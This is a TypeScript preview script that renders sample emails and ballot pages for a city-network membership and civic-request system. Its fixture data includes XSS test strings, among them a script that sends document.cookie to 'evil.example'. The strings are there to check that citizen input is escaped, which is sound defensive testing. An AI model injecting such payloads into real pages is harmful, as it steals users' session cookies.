/**
 * Writes every membership email, every Civic Participation System email (HTML part) and every
 * ballot page to a folder, with realistic sample data, so they can be opened in a browser or
 * screenshotted:
 *
 *   npx tsx scripts/render-previews.ts /tmp/previews
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { ballotErrorPage, ballotPage, voteRecordedPage } from '../functions/approvals/ballot-page.ts';
import {
  ballotEmail,
  fullApprovedEmail,
  fullNotApprovedEmail,
  workflowFailedEmail,
} from '../functions/approvals/emails.ts';
import {
  assignmentEmail,
  citizenAcknowledgementEmail,
  citizenResolvedEmail,
  citizenUpdateEmail,
  handOverEmail,
  overdueRequestEmail,
  reopenedEmail,
  unroutedRequestEmail,
} from '../functions/cps/emails.ts';
import type { Assignee, CivicRequest } from '../functions/cps/types.ts';
import type { Application } from '../functions/membership/application.ts';
import {
  acceptedEmail,
  applicationReceivedEmail,
  rejectedEmail,
  withdrawnEmail,
} from '../functions/membership/emails.ts';

const outDir = resolve(process.argv[2] ?? 'previews');
mkdirSync(outDir, { recursive: true });

const seoul: Application = {
  id: '01JD4S9K7V2M6Q8R3T5W0XYZAB',
  status: 'associate',
  submittedAt: '2026-03-02T08:15:00.000Z',
  updatedAt: '2026-04-10T09:00:00.000Z',
  memberSince: '2026-04-10T09:00:00.000Z',
  city: {
    name: 'Seoul',
    country: 'KR',
    region: 'asia',
    population: 9_386_000,
    website: 'https://english.seoul.go.kr/',
  },
  mayor: { name: 'Oh Se-hoon', officeEmail: 'mayor.office@seoul.go.kr.example' },
  signatory: { name: 'Oh Se-hoon', title: 'Mayor', isMayor: true, signedOn: '2026-02-27' },
  contact: { name: 'Kim Ji-young', email: 'ict.cooperation@seoul.go.kr.example', phone: '+82 2 2133 0000' },
  motivation: [
    'Seoul has shared its e-government experience with cities around the world for over two decades, and we wish to deepen this cooperation as a Full Member of WeGO.',
    '',
    'Our priorities for the next three years:',
    '- open data and a citywide digital twin, shared with partner cities;',
    '- the Civic Participation System for 25 autonomous districts (구청), with Open311 access for existing civic apps;',
    '- training programmes for officials of member cities in Asia, Africa and Latin America.',
    '',
    'We commit to hosting one WeGO capacity-building workshop each year and to reporting on our smart-city projects to the General Assembly. A very long unbroken token to test wrapping: https://english.seoul.go.kr/policy/smart-city/digital-twin/overview/2026/annual-report-appendix-b.pdf',
  ].join('\n'),
};

const saoPaulo: Application = {
  id: '01JD4T2B8C4N7P9Q1R6S3U5VWX',
  status: 'associate',
  submittedAt: '2026-05-18T13:40:00.000Z',
  updatedAt: '2026-06-01T10:30:00.000Z',
  memberSince: '2026-06-01T10:30:00.000Z',
  city: {
    name: 'São José dos Campos',
    country: 'BR',
    region: 'americas',
    population: 697_054,
    website: 'https://www.sjc.sp.gov.br/',
  },
  mayor: { name: 'Anderson Farias Ferreira', officeEmail: 'gabinete@sjc.sp.gov.br.example' },
  signatory: {
    name: 'Márcia Conceição Araújo',
    title: 'Secretária de Inovação e Desenvolvimento Econômico',
    isMayor: false,
    signedOn: '2026-05-15',
  },
  contact: { name: 'João Gonçalves', email: 'gabinete@sjc.sp.gov.br.example' },
  motivation:
    'São José dos Campos é uma cidade inteligente certificada (ISO 37122).\nWe want to share our "Centro de Segurança e Inteligência" experience with WeGO members & learn from them.\n<script>alert("xss")</script><img src=x onerror=alert(1)> \'single quotes\'',
};

const files: Record<string, string | undefined> = {
  'email-received': applicationReceivedEmail(saoPaulo).html,
  'email-accepted': acceptedEmail(seoul).html,
  'email-rejected': rejectedEmail(
    saoPaulo,
    'The form was signed by a Secretary without a delegation from the Mayor.\nPlease attach the delegation act, or have the Mayor sign the form, and apply again.',
  ).html,
  'email-withdrawn': withdrawnEmail(
    seoul,
    'Withdrawn at the request of the Mayor’s office (letter of 3 September 2026).',
  ).html,
  'email-ballot': ballotEmail({
    voter: { name: 'Dr. Amélie Lefèvre', email: 'amelie.lefevre@committee.example' },
    app: seoul,
    ballotUrl: 'https://api.wego.example/ballots/b7Yk2QxN9vLm4Rt8Hs1Pz6Wc3Fd5Gj0K',
    closesAt: '2026-11-26T14:00:00.000Z',
  }).html,
  'email-full-approved': fullApprovedEmail({
    ...seoul,
    status: 'full',
    fullMemberSince: '2026-11-20T16:05:00Z',
  }).html,
  'email-full-rejected': fullNotApprovedEmail(saoPaulo, 'rejected', {
    approve: 2,
    reject: 4,
    committeeSize: 7,
  }).html,
  'email-full-expired': fullNotApprovedEmail(seoul, 'expired', { approve: 3, reject: 1, committeeSize: 9 })
    .html,
  'email-workflow-failed': workflowFailedEmail('secretariat@wego.example', {
    approvalId: '01JD4V0A1B2C3D4E5F6G7H8J9K',
    cityName: 'São José dos Campos',
    step: 'SendBallots',
    error:
      'MessageRejected: Email address is not verified. The following identities failed the check in region AP-NORTHEAST-2: ballots@wego.example',
  }).html,
  'page-ballot-seoul': ballotPage({
    ballotId: 'b7Yk2QxN9vLm4Rt8Hs1Pz6Wc3Fd5Gj0K',
    voterName: 'Dr. Amélie Lefèvre',
    app: seoul,
    closesAt: '2026-11-26T14:00:00.000Z',
  }).body,
  'page-ballot-sjc': ballotPage({
    ballotId: 'Qm8Rt2Hs1Pz6Wc3Fd5Gj0Kb7Yk2QxN9vL',
    voterName: 'Kwame Mensah',
    app: saoPaulo,
    closesAt: '2026-12-03T09:30:00.000Z',
  }).body,
  'page-vote-approve': voteRecordedPage({ decision: 'approve', app: seoul }).body,
  'page-vote-reject': voteRecordedPage({ decision: 'reject', app: saoPaulo }).body,
  'page-error-404': ballotErrorPage(404).body,
  'page-error-409': ballotErrorPage(409).body,
  'page-error-410': ballotErrorPage(410).body,
};

for (const [name, content] of Object.entries(files)) {
  const path = join(outDir, `${name}.html`);
  writeFileSync(path, content ?? '');
  console.log(path);
}

// Civic Participation System samples.
const requestUrl = (id: string, lang = 'en') => `https://wego.example/${lang}/official/requests/${id}`;
const citizenLinks = (id: string, lang = 'en') => ({
  page: `https://wego.example/${lang}/requests/${id}`,
  removeContact: `https://wego.example/${lang}/requests/${id}/contact?token=Qm9vdGhzIGFuZCBzdHJlZXRsaWdodHMgb2YgU2VvdWw`,
  feedback: `https://wego.example/${lang}/requests/${id}/feedback?token=Qm9vdGhzIGFuZCBzdHJlZXRsaWdodHMgb2YgU2VvdWw`,
});

const fiscal: Assignee = {
  officialId: 'off-sp-zl-01',
  name: 'Luíza Conceição Magalhães',
  title: 'Subprefeita de Itaquera — Zeladoria Urbana',
  email: 'luiza.magalhaes@itaquera.prefeitura.sp.gov.br.example',
};

const pothole: CivicRequest = {
  id: '01JF8Q3M5N7P9R2S4T6V8W0XYZ',
  cityId: 'sao-paulo',
  cityName: 'São Paulo',
  service: 'pothole',
  serviceName: 'Buraco na via (pothole)',
  district: 'Itaquera — Cidade Líder',
  description:
    'Buraco grande na faixa da direita, perto do ponto de ônibus em frente à padaria São João.\nJá furou o pneu de dois carros esta semana e à noite não dá para ver.',
  location: { lat: -23.5428714, lng: -46.4571236 },
  address: 'Avenida Itaquera, 8.251 — em frente ao nº 8.260, Cidade Líder, São Paulo — SP, 08295-005',
  contact: {
    name: 'José Antônio Gonçalves',
    email: 'jose.goncalves@example.com.br',
    phone: '+55 11 98765-4321',
  },
  status: 'assigned',
  assignedTo: fiscal,
  createdAt: '2026-07-14T11:32:00.000Z',
  updatedAt: '2026-07-14T11:32:00.000Z',
  expectedAt: '2026-07-17T11:32:00.000Z',
};

const streetlightOfficial: Assignee = {
  officialId: 'off-seoul-jongno-07',
  name: 'Park Min-jun (박민준)',
  title: 'Road Lighting Team, Jongno-gu Office (종로구청 도로과)',
  email: 'minjun.park@jongno.go.kr.example',
};

const streetlight: CivicRequest = {
  id: '01JF9A1B2C3D4E5F6G7H8J9K0M',
  cityId: 'seoul',
  cityName: 'Seoul',
  service: 'streetlight',
  serviceName: 'Streetlight out (가로등 고장)',
  district: '종로구 (Jongno-gu)',
  description:
    '삼청동 골목길 가로등 3개가 일주일째 꺼져 있습니다. 밤에 너무 어두워서 위험해요.\nThree streetlights in the alley behind Samcheong-dong community centre have been out for a week.',
  location: { lat: 37.5856, lng: 126.9822 },
  address: '서울특별시 종로구 삼청로 101 (Samcheong-ro 101)',
  contact: { name: '이서연', email: 'seoyeon.lee@example.kr' },
  status: 'assigned',
  assignedTo: streetlightOfficial,
  createdAt: '2026-08-03T13:05:00.000Z',
  updatedAt: '2026-08-03T13:05:00.000Z',
  expectedAt: '2026-08-05T13:05:00.000Z',
};

/** A citizen tries HTML in every field they type; it must arrive as plain text. */
const injection: CivicRequest = {
  ...streetlight,
  id: '01JFA0XSS0XSS0XSS0XSS0XSS0',
  district: 'Mapo-gu<script>alert("d")</script>',
  address: '<a href="https://evil.example">Click here</a>',
  description:
    '<img src=x onerror=alert(1)> <b>bold?</b> & "quotes" \'single\'\n<script>document.location="https://evil.example/?c="+document.cookie</script>',
  contact: { name: '<i>Mallory</i>', email: 'mallory@example.net' },
  status: 'submitted',
  assignedTo: undefined,
};

/** A long description, no location, no contact, and a long unbroken URL. */
const longOne: CivicRequest = {
  ...pothole,
  id: '01JFB7LONG7LONG7LONG7LONG7',
  serviceName: 'Calçada danificada / acessibilidade (damaged sidewalk and accessibility)',
  district: 'Vila Mariana — Jardim Vila Mariana, próximo ao Parque Ibirapuera, portão 10',
  location: undefined,
  contact: undefined,
  description: [
    'A calçada da Rua Sena Madureira entre os números 1.200 e 1.450 está completamente quebrada há meses.',
    '',
    'Problemas observados:',
    '- raízes de árvores levantaram as placas de concreto em vários pontos;',
    '- não há rampa de acessibilidade na esquina com a Rua Domingos de Morais, e cadeirantes precisam descer para a rua, junto aos ônibus;',
    '- a iluminação é fraca e idosos já caíram duas vezes este mês (uma senhora quebrou o punho).',
    '',
    'Fotos: https://photos.example.com/albums/2026/sena-madureira-calcada-quebrada-1200-1450/full-resolution-originals-download-all.zip',
    '',
    'Peço que a prefeitura inspecione o trecho, conserte as placas e construa a rampa. Obrigado!',
  ].join('\n'),
  status: 'in_progress',
  overdue: true,
  escalatedAt: '2026-07-20T14:00:00.000Z',
};

const cpsFiles: Record<string, string> = {
  'cps-assignment-pothole': assignmentEmail(pothole, fiscal, requestUrl(pothole.id)).html,
  'cps-assignment-streetlight': assignmentEmail(streetlight, streetlightOfficial, requestUrl(streetlight.id))
    .html,
  'cps-assignment-long': assignmentEmail(longOne, fiscal, requestUrl(longOne.id)).html,
  'cps-handover-streetlight': handOverEmail(
    { ...streetlight, assignedTo: { ...streetlightOfficial, name: 'Choi Yu-na (최유나)' } },
    { ...streetlightOfficial, name: 'Choi Yu-na (최유나)', email: 'yuna.choi@jongno.go.kr.example' },
    'Samcheong-ro is maintained by the Seoul Metropolitan Facilities Management Corporation, not by the district office.\n담당 부서 변경.',
    requestUrl(streetlight.id),
  ).html,
  'cps-handover-overdue-long': handOverEmail(
    longOne,
    fiscal,
    'Sidewalks of arterial roads belong to Zeladoria.',
    requestUrl(longOne.id),
  ).html,
  'cps-citizen-ack-pothole': citizenAcknowledgementEmail(pothole, citizenLinks(pothole.id)).html,
  'cps-citizen-ack-streetlight': citizenAcknowledgementEmail(streetlight, citizenLinks(streetlight.id)).html,
  'cps-citizen-ack-unrouted-xss': citizenAcknowledgementEmail(injection, citizenLinks(injection.id)).html,
  'cps-citizen-update-in-progress': citizenUpdateEmail(
    { ...pothole, status: 'in_progress' },
    {
      at: '2026-07-15T09:10:00.000Z',
      actor: fiscal.email,
      status: 'in_progress',
      note: 'Equipe de tapa-buraco agendada para quinta-feira, 16/07, entre 8h e 12h. A faixa da direita será interditada durante o serviço.',
      public: true,
    },
    citizenLinks(pothole.id),
  ).html,
  'cps-citizen-resolved-ko': citizenResolvedEmail(
    { ...streetlight, status: 'resolved', language: 'ko' },
    {
      at: '2026-08-04T07:45:00.000Z',
      actor: streetlightOfficial.email,
      status: 'resolved',
      note: '가로등 3개의 램프와 안정기를 교체했습니다. 감사합니다.\nThe lamps and ballasts of the three streetlights were replaced. Thank you for reporting it.',
      public: true,
    },
    citizenLinks(streetlight.id, 'ko'),
  ).html,
  'cps-citizen-ack-ar': citizenAcknowledgementEmail(
    { ...pothole, language: 'ar', contact: { name: 'ليلى حداد', email: 'layla@example.com' } },
    citizenLinks(pothole.id, 'ar'),
  ).html,
  'cps-citizen-resolved-ar-internal': citizenResolvedEmail(
    { ...pothole, status: 'resolved', language: 'ar' },
    {
      at: '2026-07-16T10:00:00.000Z',
      actor: fiscal.email,
      status: 'resolved',
      note: 'internal',
      public: false,
    },
    citizenLinks(pothole.id, 'ar'),
  ).html,
  'cps-reopened-fr': reopenedEmail(
    { ...pothole, language: 'es', expectedAt: '2026-07-22T09:00:00.000Z' },
    { ...fiscal, language: 'fr' },
    {
      at: '2026-07-19T09:00:00.000Z',
      resolvedAt: '2026-07-16T10:00:00.000Z',
      note: 'O buraco foi tapado, mas abriu de novo depois da chuva de ontem.',
      times: 2,
    },
    requestUrl(pothole.id, 'fr'),
  ).html,
  'cps-unrouted-xss': unroutedRequestEmail('secretariat@wego.example', injection, requestUrl(injection.id))
    .html,
  'cps-overdue-long': overdueRequestEmail('secretariat@wego.example', longOne, requestUrl(longOne.id)).html,
  'cps-overdue-unassigned': overdueRequestEmail(
    'secretariat@wego.example',
    { ...injection, overdue: true, escalatedAt: '2026-08-06T01:00:00.000Z' },
    requestUrl(injection.id),
  ).html,
};

for (const [name, content] of Object.entries(cpsFiles)) {
  const path = join(outDir, `${name}.html`);
  writeFileSync(path, content);
  console.log(path);
}
